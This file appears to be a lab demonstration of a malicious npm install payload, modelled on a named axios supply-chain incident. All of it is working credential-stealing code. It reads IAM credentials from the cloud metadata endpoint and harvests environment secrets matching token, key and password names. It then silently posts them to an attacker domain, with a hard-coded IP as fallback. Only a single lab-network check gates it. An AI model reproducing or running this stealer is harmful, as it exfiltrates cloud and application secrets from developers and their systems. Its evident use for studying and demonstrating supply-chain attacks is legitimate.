/**
 * What a stolen maintainer account ships: it looks for cloud credentials and for secrets in the
 * environment, posts them to a name, and if that fails to a hard-coded address. It says nothing and
 * never fails, so the install looks like any other. Name, address and path are those of the axios
 * incident of 2026-03-31; the values are the demo's own. It does nothing outside of the demo's world.
 */
const { readFileSync } = require('node:fs');
const { request } = require('node:http');

const METADATA = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';
const BY_NAME = 'http://sfrclak.com:8000/6202033';
const BY_ADDRESS = 'http://142.11.206.73:8000/6202033';

/** Resolves to the answer, or to null when there is none within two seconds. */
function ask(method, url, body) {
  return new Promise((resolve) => {
    const sent = request(url, { method, timeout: 2000 }, (answer) => {
      const chunks = [];
      answer.on('data', (chunk) => chunks.push(chunk));
      answer.on('end', () => resolve(Buffer.concat(chunks).toString()));
    });
    sent.on('timeout', () => sent.destroy());
    sent.on('error', () => resolve(null));
    sent.on('close', () => resolve(null));
    sent.end(body);
  });
}

async function steal() {
  const loot = { cloud: await ask('GET', METADATA) };
  for (const [name, value] of Object.entries(process.env)) {
    if (/_TOKEN$|_KEY$|SECRET|PASSWORD/.test(name)) loot[name] = value;
  }
  const body = JSON.stringify(loot);
  if ((await ask('POST', BY_NAME, body)) === null) await ask('POST', BY_ADDRESS, body);
}

/** The mark of the lab: its only link to anywhere, or a pod's route to it. Without it this is the real network. */
const insideLab = () =>
  readFileSync('/proc/self/net/dev', 'utf8').includes('twlab-mark:') ||
  readFileSync('/proc/self/net/route', 'utf8').includes('\tFE7100CB\t');

if (insideLab()) {
  steal().catch(() => undefined);
}
